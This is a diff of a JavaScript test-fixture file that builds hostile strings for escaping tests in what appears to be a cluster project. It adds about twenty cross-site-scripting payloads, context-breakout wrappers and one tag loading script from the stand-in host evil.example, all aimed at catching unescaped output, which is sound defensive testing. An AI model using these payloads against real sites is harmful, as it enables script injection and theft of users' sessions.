@@ -1,6 +1,7 @@
 // Texts that want to be more than text. Each is used as key, value, node id and log line.
 
-export const HOSTILE = [
+// Written one by one: what no context makes more dangerous.
+const SINGLE = [
   "<script>globalThis.__harmed=1;alert(1)</script>",
   "<img src=x onerror=\"globalThis.__harmed=1;alert(2)\">",
   "<svg onload=alert(3)><animate onbegin=alert(3) attributeName=x dur=1s>",
@@ -29,4 +30,52 @@ export const HOSTILE = [
   "\ud83d\udca9\ud800 lone surrogate",
   "<vizor-empty></vizor-empty><dialog open>you were logged out</dialog>",
   "--- 2026-01-01 node0 leads term 99 · 3 of 3 up",
+];
+
+const HARM = "globalThis.__harmed=1";
+
+// What would run, each by another door.
+const PAYLOADS = [
+  `<script>${HARM}</script>`,
+  `<script type=module>${HARM}</script>`,
+  "<script src=https://evil.example/x.js></script>",
+  `<img src=x onerror=${HARM}>`,
+  `<svg><script>${HARM}</script></svg>`,
+  `<svg/onload=${HARM}>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${HARM}>#x"></svg>`,
+  `<details open ontoggle=${HARM}>`,
+  `<video><source onerror=${HARM}></video>`,
+  `<input autofocus onfocus=${HARM}>`,
+  `<body onload=${HARM}>`,
+  `<iframe src="javascript:parent.${HARM}"></iframe>`,
+  `<object data="javascript:${HARM}"></object>`,
+  `<embed src="data:text/html,<script>${HARM}</script>">`,
+  `<form action="javascript:${HARM}"><button>go</button></form>`,
+  `<a href="java\tscript:${HARM}">a</a>`,
+  `<template shadowrootmode=open><script>${HARM}</script></template>`,
+  `<math><mtext><img src=x onerror=${HARM}></mtext></math>`,
+  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
+  `<marquee onstart=${HARM}>x</marquee>`,
+  `<div style="background:url(javascript:${HARM})">x</div>`,
+  `{{constructor.constructor("${HARM}")()}}`,
+];
+
+// Where a text may stand when somebody forgets to escape it: each closes what would be open.
+const CONTEXTS = [
+  (text) => text,
+  (text) => `">${text}`,
+  (text) => `'>${text}`,
+  (text) => `--></style></script></textarea></title>${text}`,
+  (text) => `\`;${text}//`,
+  (text) => `\\u003c${text}\\"`,
+  (text) => `{"key":"}${text}`,
+  (text) => `]]>${text}<![CDATA[`,
+];
+
+/** Each text once; where a real cluster has to write them, that is enough. */
+export const HOSTILE_ONCE = [...SINGLE, ...PAYLOADS];
+
+export const HOSTILE = [
+  ...SINGLE,
+  ...PAYLOADS.flatMap((payload) => CONTEXTS.map((context) => context(payload))),
 ];
